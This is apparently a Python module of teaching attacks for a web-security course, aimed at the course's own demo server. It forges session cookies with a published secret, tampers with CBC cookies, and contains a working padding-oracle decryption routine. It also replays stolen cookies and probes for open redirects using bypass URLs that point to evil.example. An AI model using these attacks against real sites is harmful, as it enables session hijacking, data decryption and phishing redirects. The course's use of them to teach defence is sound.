"""The attacks of the notebooks: each works on one stage and fails on the next.

An attack over HTTP gets the server's `url`, and knows only what any visitor knows. It returns
what it got, or something false if it got nothing.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from datetime import timedelta
from typing import Any
from urllib.parse import quote, urlsplit

import requests

from ...app import PAGE_SECRET
from ...cookie import derive_keys, from_base64, seal, to_base64, unseal
from ...errors import BadCookie
from ..clock import Clock
from ..http.visitor import Visitor
from ..views.markup import status

_BLOCK = 16
_PATIENCE = 60  # seconds


@dataclass(frozen=True)
class Outcome:
    """Whether an attack worked, and what the attacker saw; true if it worked."""

    worked: bool
    story: str

    def __bool__(self) -> bool:
        return self.worked

    def __repr__(self) -> str:
        return f"attack {'succeeded' if self.worked else 'refused'}: {self.story}"

    def _repr_html_(self) -> str:
        return status("!" if self.worked else "✓", repr(self))


def open_with_published_secret(value: str) -> dict[str, Any] | None:
    """Open a cookie with the secret from the course page; return None if it does not open."""
    try:
        return unseal(value, derive_keys(PAGE_SECRET)).content
    except BadCookie:
        return None


def enter_with_published_secret(url: str) -> Outcome:
    """Seal a cookie for a user that does not exist, and request the dashboard with it."""
    boss = {"user": {"userName": "boss", "email": "boss@example.com"}}
    # The forger chooses the lifetime.
    forged = seal(boss, derive_keys(PAGE_SECRET), duration=100 * 365 * 24 * 3_600_000)
    answer = _ask(url, "/dashboard", forged)
    if "Hello boss" in answer.text:
        return Outcome(True, "GET /dashboard with our own cookie shows 'Hello boss'")
    return Outcome(False, f"GET /dashboard with our own cookie {_seen(answer)}")


def forge_plain(url: str, message: str = "admin") -> Outcome:
    """Write an unencrypted session with a message of our own, and let the server read it."""
    forged = to_base64(json.dumps({"message": message}).encode())
    return _outcome(_read(url, forged), message, "with a cookie that we wrote")


#: What a guest's session in the lounge of `weak.add_lounge` is, and what an attacker wants.
GUEST, MEMBER = b'session={"vip":0}', b'session={"vip":1}'


def enter_lounge(url: str, aim: Callable[[str, bytes, bytes], str]) -> Outcome:
    """Visit the lounge as a guest, change the cookie with `aim`, and ask to be let in."""
    client = Visitor()
    _ask(url, "/visit", client=client)
    forged = aim(client.cookies["session"], GUEST, MEMBER)
    answer = _ask(url, "/lounge", forged)
    return Outcome(answer.ok, f"with the changed cookie, GET /lounge {_seen(answer)}")


def read_by_padding(
    value: str, padding_is_good: Callable[[str], bool], *, last: int | None = None
) -> bytes:
    """Read the end of a plaintext by asking one question many times: is this padding good?

    `value` begins with ``iv.ciphertext``; its other fields are sent unchanged. Returns the
    last `last` bytes of the plaintext, or all of it, with the padding. If the answers stop
    making sense, it returns the bytes found until then.
    """
    iv, ciphertext, *rest = value.split(".")
    raw = from_base64(iv) + from_base64(ciphertext)
    blocks = [raw[i : i + _BLOCK] for i in range(0, len(raw), _BLOCK)]

    def good(before: bytes, block: bytes) -> bool:
        return padding_is_good(".".join([to_base64(before), to_base64(block), *rest]))

    # Padding ends in a byte from 1 to 16, so at most one of these two is good.
    if all(good(bytes([high]) * _BLOCK, blocks[-1]) for high in (0, 0x80)):
        return b""  # every padding is called good: the answers reveal nothing

    found = b""
    while len(blocks) > 1 and (last is None or len(found) < last):
        block = blocks.pop()
        most = _BLOCK if last is None else min(_BLOCK, last - len(found))
        read = _read_block(blocks[-1], block, good, most)
        found = read + found
        if len(read) < most:
            break
    return found


def _read_block(
    before: bytes, block: bytes, good: Callable[[bytes, bytes], bool], most: int
) -> bytes:
    """Read up to `most` bytes from the end of a block; `before` is the block before it.

    CBC XORs each block that the cipher decrypted with the block before it. So for each byte,
    exactly one value of the byte at the same place in that block gives valid padding.
    """
    decrypted = bytearray(_BLOCK)
    for place in range(_BLOCK - 1, _BLOCK - 1 - most, -1):
        size = _BLOCK - place
        attempt = bytearray(b ^ size for b in decrypted)
        attempt[:place] = bytes(place)
        guess = next((g for g in range(256) if _fits(attempt, place, g, block, good)), None)
        if guess is None:
            most = size - 1
            break
        decrypted[place] = guess ^ size
    plain = bytes(a ^ b for a, b in zip(decrypted, before, strict=True))
    return plain[_BLOCK - most :]


def _fits(
    attempt: bytearray,
    place: int,
    guess: int,
    block: bytes,
    good: Callable[[bytes, bytes], bool],
) -> bool:
    attempt[place] = guess
    if not good(bytes(attempt), block):
        return False
    if place == 0:
        return True
    # By chance it may be good as longer padding, which a change of the byte before breaks.
    other = bytearray(attempt)
    other[place - 1] ^= 0xFF
    return good(bytes(other), block)


def server_says_padding_is_good(url: str) -> Callable[[str], bool]:
    """Return the question for `read_by_padding`: does the server answer other than 500?"""
    client = Visitor()

    def ask(value: str) -> bool:
        headers = {"Cookie": f"session={value}"}
        answer = client.get(f"{url}/session-test-read", headers=headers, timeout=_PATIENCE)
        return answer.status_code != 500

    return ask


def stay_forever(url: str, log_in: dict[str, str], clock: Clock) -> Outcome:
    """Copy a cookie and use it every 50 seconds for an hour: does it still log the thief in?"""
    victim, thief = Visitor(), Visitor()
    victim.post(f"{url}/login", data=log_in, timeout=_PATIENCE)
    thief.cookies.update(victim.cookies)
    for _ in range(72):
        clock.advance(timedelta(seconds=50))
        answer = _ask(url, "/dashboard", client=thief)
    inside = "Hello" in answer.text
    return Outcome(inside, f"after an hour the thief is logged {'in' if inside else 'out'}")


def stretch(url: str, clock: Clock) -> Outcome:
    """Write a longer duration into a cookie: does it still open a day later?"""
    client = Visitor()
    _ask(url, "/session-test-add?message=still here", client=client)
    fields = client.cookies["session"].split(".")
    fields[3] = str(10 * 365 * 24 * 3_600_000)
    clock.advance(timedelta(days=1))
    return _outcome(_read(url, ".".join(fields)), "still here", "a day later")


def forced_browsing(url: str, paths: Iterable[str]) -> set[str]:
    """Return the paths that answer 200 to a visitor who has not logged in."""

    def status(path: str) -> int:
        answer = Visitor().get(f"{url}{path}", allow_redirects=False, timeout=_PATIENCE)
        return answer.status_code

    return {path for path in paths if status(path) == 200}


#: Locations that lead a browser to another host: a full URL, and what browsers read as one.
#: (Flask writes the backslash as %5C, which makes the third one harmless.)
ELSEWHERE = (
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "/\t/evil.example/",
)


def open_redirect(url: str, log_in: dict[str, str]) -> set[str]:
    """Return the locations of `ELSEWHERE` to which a login with ``?next=`` redirects."""
    return {target for target in ELSEWHERE if _sent_away(url, log_in, target)}


def _sent_away(url: str, log_in: dict[str, str], target: str) -> bool:
    address = f"{url}/login?next={quote(target, safe='')}"
    answer = Visitor().post(address, data=log_in, allow_redirects=False, timeout=_PATIENCE)
    location = answer.headers.get("Location", "")
    # Browsers remove tabs and read a backslash as a slash, but not %09 and %5C.
    read = location.replace("\t", "").replace("\\", "/")
    return urlsplit(read).netloc not in ("", urlsplit(url).netloc)


def _ask(
    url: str, path: str, value: str | None = None, *, client: requests.Session | None = None
) -> requests.Response:
    headers = {} if value is None else {"Cookie": f"session={value}"}
    return (client or Visitor()).get(f"{url}{path}", headers=headers, timeout=_PATIENCE)


def _seen(answer: requests.Response) -> str:
    """Return a description of a response, or of the redirect before it."""
    if answer.history:
        return f"redirects to {answer.history[-1].headers['Location']}"
    return f"answers {answer.status_code}"


def _read(url: str, value: str) -> requests.Response:
    """Let the server read the message in a session."""
    return _ask(url, "/session-test-read", value)


def _outcome(answer: requests.Response, wanted: str, how: str) -> Outcome:
    message = answer.text.partition("session message: ")[2]
    if not message:
        seen = f"answers {answer.status_code}"
    elif message == "undefined":  # the app prints this if the session has no message
        seen = "reads no message"
    else:
        seen = f"reads {message!r}"
    return Outcome(message == wanted, f"{how}, the server {seen}")
